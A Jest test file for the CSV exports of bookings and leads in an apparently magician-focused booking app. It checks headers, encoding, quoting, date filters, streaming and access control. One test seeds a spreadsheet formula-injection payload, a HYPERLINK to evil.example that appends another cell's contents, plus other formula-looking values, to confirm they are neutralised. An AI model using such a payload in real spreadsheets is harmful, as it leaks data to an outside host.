/** @jest-environment node */
import { GET as exportBookings } from "@/app/api/admin/export/bookings.csv/route";
import { GET as exportLeads } from "@/app/api/admin/export/leads.csv/route";
import { EXPORT_PAGE_SIZE } from "@/lib/server/admin/export";
import { createBarClient, magician, request } from "../../support/auth";
import { parseCsv } from "../../support/csv";
import { db, resetAndSeed } from "../../support/db";
import { call, createBooking, expectMagicianOnly } from "./helpers";

beforeEach(resetAndSeed);
afterAll(() => db.$disconnect());

const BOOKING_HEADER = [
  "id",
  "createdAt",
  "eventDate",
  "startTime",
  "endTime",
  "status",
  "paymentStatus",
  "paymentType",
  "source",
  "venue",
  "barName",
  "clientName",
  "clientEmail",
  "clientPhone",
  "eventType",
  "eventLocation",
  "eventAddress",
  "guestCount",
  "services",
  "duration",
  "totalAmount",
  "paidAmount",
  "refundedAmount",
  "balanceDue",
  "barCommission",
];
const LEAD_HEADER = [
  "id",
  "createdAt",
  "status",
  "name",
  "email",
  "phone",
  "eventType",
  "location",
  "message",
  "bookingId",
];

type Handler = (req: Request, ctx: { params: Promise<Record<string, string>> }) => Promise<Response>;

/** Calls an export as the magician and reads the raw bytes chunk by chunk, as a browser would. */
async function download(handler: Handler, path: string) {
  const response = await handler(await request(path, { as: await magician() }), { params: Promise.resolve({}) });
  const chunks: Uint8Array[] = [];
  const reader = response.body!.getReader();
  for (;;) {
    const { done, value } = await reader.read();
    if (done) break;
    chunks.push(value);
  }
  const bytes = Buffer.concat(chunks);
  // Decoded by hand: Response.text() would drop the BOM this test wants to see.
  const text = bytes.toString("utf8");
  const records = parseCsv(text.replace(/^\uFEFF/, ""));
  const rows = records.slice(1).map((r) => Object.fromEntries(records[0]!.map((h, i) => [h, r[i]])));
  return { response, bytes, text, chunks, header: records[0], rows };
}

describe("GET /api/admin/export/bookings.csv", () => {
  it("answers a CSV download: headers, UTF-8 BOM, header row, CRLF records", async () => {
    await createBooking({ clientName: "Zoë Brontë", eventDate: "2030-01-10" });
    const { response, bytes, text, header, rows } = await download(
      exportBookings as never,
      "/api/admin/export/bookings.csv?from=2030-01-01&to=2030-01-31",
    );
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toBe(
      'attachment; filename="bookings-2030-01-01-to-2030-01-31.csv"',
    );
    expect(response.headers.get("cache-control")).toBe("private, no-store");
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(header).toEqual(BOOKING_HEADER);
    expect(text.split("\r\n")).toHaveLength(3); // header, one record, and the empty rest after the last CRLF
    expect(text).not.toMatch(/[^\r]\n/);
    expect(rows).toHaveLength(1);
    expect(rows[0]?.clientName).toBe("Zoë Brontë");
  });

  it("writes every column of a booking: partner venue, services, money in pounds, balance due", async () => {
    const bar = await createBarClient({ barName: "The Thistle, Glasgow" });
    const booking = await createBooking({
      eventDate: "2030-02-14",
      barId: bar.id,
      source: "bar-service",
      selectedServices: [
        { id: 1, title: "Close-Up Magic", price: 100 },
        { id: 2, title: "Mind Reading", price: 37.5 },
      ],
      totalPence: 13750,
      paidPence: 5000,
      barCommissionPence: 2063,
      paymentType: "deposit",
      status: "confirmed",
      clientPhone: "+44 7700 900123",
    });
    const { rows } = await download(exportBookings as never, "/api/admin/export/bookings.csv");
    expect(rows).toEqual([
      {
        id: String(booking.id),
        createdAt: booking.createdAt.toISOString(),
        eventDate: "2030-02-14",
        startTime: "19:00",
        endTime: "20:00",
        status: "confirmed",
        paymentStatus: "pending",
        paymentType: "deposit",
        source: "bar-service",
        venue: "partner",
        barName: "The Thistle, Glasgow",
        clientName: "Ada Lovelace",
        clientEmail: booking.clientEmail,
        // a leading + would be evaluated by the spreadsheet: written as text (lib/domain/csv neutralise)
        clientPhone: "'+44 7700 900123",
        eventType: "wedding",
        eventLocation: "The Grand Hall",
        eventAddress: "1 High Street, Glasgow",
        guestCount: "50",
        services: "Close-Up Magic; Mind Reading",
        duration: "60",
        totalAmount: "137.50",
        paidAmount: "50.00",
        refundedAmount: "0.00",
        balanceDue: "87.50",
        barCommission: "20.63",
      },
    ]);
  });

  it("keeps a comma, a quote and line breaks inside their cells, and neutralises a formula-looking name", async () => {
    const awkward = await createBooking({
      clientName: 'O"Brien, Mary',
      eventAddress: "Flat 2\r\n10 Rose Street\nEdinburgh",
      eventLocation: 'The "Old" Kirk, Leith',
    });
    const evil = await createBooking({
      clientName: '=HYPERLINK("https://evil.example/?"&L2,"Click")',
      eventLocation: "@SUM(1+1)",
      eventAddress: "-2+3",
    });
    const { text, rows } = await download(exportBookings as never, "/api/admin/export/bookings.csv");
    const byId = new Map(rows.map((r) => [Number(r.id), r]));
    expect(byId.get(awkward.id)).toMatchObject({
      clientName: 'O"Brien, Mary',
      eventAddress: "Flat 2\r\n10 Rose Street\nEdinburgh",
      eventLocation: 'The "Old" Kirk, Leith',
    });
    expect(text).toContain('"O""Brien, Mary"');
    expect(text).toContain('"Flat 2\r\n10 Rose Street\nEdinburgh"');
    expect(byId.get(evil.id)).toMatchObject({
      clientName: '\'=HYPERLINK("https://evil.example/?"&L2,"Click")',
      eventLocation: "'@SUM(1+1)",
      eventAddress: "'-2+3",
    });
    // on disk: the apostrophe is inside the quotes, so the cell starts with it
    expect(text).toContain('"\'=HYPERLINK(""https://evil.example/?""&L2,""Click"")"');
    for (const row of rows) expect(Object.keys(row)).toHaveLength(BOOKING_HEADER.length);
  });

  it("owes nothing on a withdrawn booking, and lists only the dashboards' bookings (no unpaid holds)", async () => {
    const cancelled = await createBooking({
      status: "cancelled",
      paymentStatus: "cancelled",
      totalPence: 30000,
      paidPence: 10000,
    });
    const refunded = await createBooking({
      status: "refunded",
      paymentStatus: "refunded",
      totalPence: 30000,
      paidPence: 30000,
      refundedPence: 30000,
    });
    const pending = await createBooking({ status: "pending", totalPence: 30000 });
    await createBooking({ status: "awaiting_payment", holdExpiresAt: new Date(Date.now() + 600_000) });
    await createBooking({ status: "expired", holdExpiresAt: new Date(Date.now() - 600_000) });
    const { rows } = await download(exportBookings as never, "/api/admin/export/bookings.csv");
    expect(rows.map((r) => Number(r.id))).toEqual([cancelled.id, refunded.id, pending.id]);
    expect(rows.map((r) => [r.balanceDue, r.refundedAmount])).toEqual([
      ["0.00", "0.00"],
      ["0.00", "300.00"],
      ["300.00", "0.00"],
    ]);
    expect(rows.every((r) => r.venue === "own" && r.barName === "")).toBe(true);
  });

  it("filters on the event date, both ends inclusive and each optional", async () => {
    const dates = ["2030-01-01", "2030-01-15", "2030-01-31", "2030-02-01", "2029-12-31"];
    for (const eventDate of dates) await createBooking({ eventDate });
    const datesOf = async (query: string) =>
      (await download(exportBookings as never, `/api/admin/export/bookings.csv${query}`)).rows
        .map((r) => r.eventDate)
        .sort();
    expect(await datesOf("?from=2030-01-01&to=2030-01-31")).toEqual(["2030-01-01", "2030-01-15", "2030-01-31"]);
    expect(await datesOf("?from=2030-01-31")).toEqual(["2030-01-31", "2030-02-01"]);
    expect(await datesOf("?to=2030-01-01")).toEqual(["2029-12-31", "2030-01-01"]);
    expect(await datesOf("?from=&to=")).toEqual([...dates].sort());
    expect(await datesOf("?from=2031-01-01")).toEqual([]);
    const open = await download(exportBookings as never, "/api/admin/export/bookings.csv?from=2030-01-31");
    expect(open.response.headers.get("content-disposition")).toBe(
      'attachment; filename="bookings-2030-01-31-to-end.csv"',
    );
    const all = await download(exportBookings as never, "/api/admin/export/bookings.csv");
    expect(all.response.headers.get("content-disposition")).toBe('attachment; filename="bookings-all.csv"');
  });

  it.each([
    ["?from=2030-02-30", { from: "Please enter a date as yyyy-MM-dd." }],
    ["?from=30/01/2030", { from: "Please enter a date as yyyy-MM-dd." }],
    ["?to=tomorrow", { to: "Please enter a date as yyyy-MM-dd." }],
    ["?from=2030-02-01&to=2030-01-31", { to: "The end date must be on or after the start date." }],
  ])("refuses %s with 400 and the field's message", async (query, fieldErrors) => {
    const res = await call(exportBookings as never, `/api/admin/export/bookings.csv${query}`);
    expect(res.status).toBe(400);
    expect(res.body.fieldErrors).toEqual(fieldErrors);
    expect(res.body.error).toBe(Object.values(fieldErrors)[0]);
  });

  it(`streams more than one page (${EXPORT_PAGE_SIZE} rows) completely, each booking once, in id order`, async () => {
    const template = await createBooking({ eventDate: "2030-03-01" });
    const { id: _id, createdAt: _c, updatedAt: _u, ...data } = template;
    // awkward names (a comma, quotes) across the page boundaries, so a record split between chunks would show
    const nameOf = (n: number) => `Client ${n}, the ${n % 2 === 0 ? '"Great"' : "Amazing"}`;
    await db.booking.createMany({
      data: Array.from({ length: 1199 }, (_, i) => ({
        ...data,
        selectedServices: data.selectedServices as never,
        clientName: nameOf(i + 2),
        clientEmail: `client${i + 2}@example.com`,
      })),
    });
    const { rows, chunks } = await download(
      exportBookings as never,
      "/api/admin/export/bookings.csv?from=2030-03-01&to=2030-03-01",
    );
    expect(rows).toHaveLength(1200);
    const ids = rows.map((r) => Number(r.id));
    expect(ids).toEqual([...ids].sort((a, b) => a - b));
    expect(new Set(ids).size).toBe(1200);
    expect(ids[0]).toBe(template.id);
    expect(rows.slice(1).map((r) => r.clientName)).toEqual(Array.from({ length: 1199 }, (_, i) => nameOf(i + 2)));
    // one chunk per page of 500: the file was never built whole in memory
    expect(chunks.length).toBe(Math.ceil(1200 / EXPORT_PAGE_SIZE));
  });

  it("is for the magician only", async () => {
    await expectMagicianOnly(exportBookings as never, "/api/admin/export/bookings.csv");
    // the role check comes first: a signed-out caller learns nothing about the parameters
    const signedOut = await call(exportBookings as never, "/api/admin/export/bookings.csv?from=nonsense", { as: null });
    expect(signedOut.status).toBe(401);
  });
});

describe("GET /api/admin/export/leads.csv", () => {
  it("exports every lead with the booking it became", async () => {
    const open = await db.lead.create({
      data: {
        name: "Grace Hopper",
        email: "grace@example.com",
        phone: "+44 7700 900456",
        eventType: "corporate",
        location: null,
        message: 'Hello,\r\nwe want "magic" at our party.\n=2+2',
      },
    });
    const converted = await db.lead.create({
      data: {
        name: "-Sneaky",
        email: "sneaky@example.com",
        phone: "07700 900789",
        eventType: "wedding",
        location: "Perth",
        message: "Yes",
        status: "converted",
      },
    });
    const booking = await createBooking({ leadId: converted.id, source: "lead" });
    const { response, bytes, header, rows } = await download(exportLeads as never, "/api/admin/export/leads.csv");
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toMatch(
      /^attachment; filename="leads-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    expect(response.headers.get("cache-control")).toBe("private, no-store");
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(header).toEqual(LEAD_HEADER);
    expect(rows).toEqual([
      {
        id: String(open.id),
        createdAt: open.createdAt.toISOString(),
        status: "new",
        name: "Grace Hopper",
        email: "grace@example.com",
        phone: "'+44 7700 900456",
        eventType: "corporate",
        location: "",
        // only the cell's first character matters: a formula on a later line is just text
        message: 'Hello,\r\nwe want "magic" at our party.\n=2+2',
        bookingId: "",
      },
      {
        id: String(converted.id),
        createdAt: converted.createdAt.toISOString(),
        status: "converted",
        name: "'-Sneaky",
        email: "sneaky@example.com",
        phone: "07700 900789",
        eventType: "wedding",
        location: "Perth",
        message: "Yes",
        bookingId: String(booking.id),
      },
    ]);
  });

  it("streams more than one page of leads", async () => {
    await db.lead.createMany({
      data: Array.from({ length: 1001 }, (_, i) => ({
        name: `Lead ${i + 1}`,
        email: `lead${i + 1}@example.com`,
        phone: "07700 900000",
        eventType: "birthday",
        message: "Hi",
      })),
    });
    const { rows, chunks } = await download(exportLeads as never, "/api/admin/export/leads.csv");
    expect(rows.map((r) => r.name)).toEqual(Array.from({ length: 1001 }, (_, i) => `Lead ${i + 1}`));
    expect(chunks.length).toBe(3);
  });

  it("writes only the header when there are no leads", async () => {
    const { text, rows } = await download(exportLeads as never, "/api/admin/export/leads.csv");
    expect(rows).toEqual([]);
    expect(text).toBe(`\uFEFF${LEAD_HEADER.join(",")}\r\n`);
  });

  it("is for the magician only", async () => {
    await expectMagicianOnly(exportLeads as never, "/api/admin/export/leads.csv");
  });
});
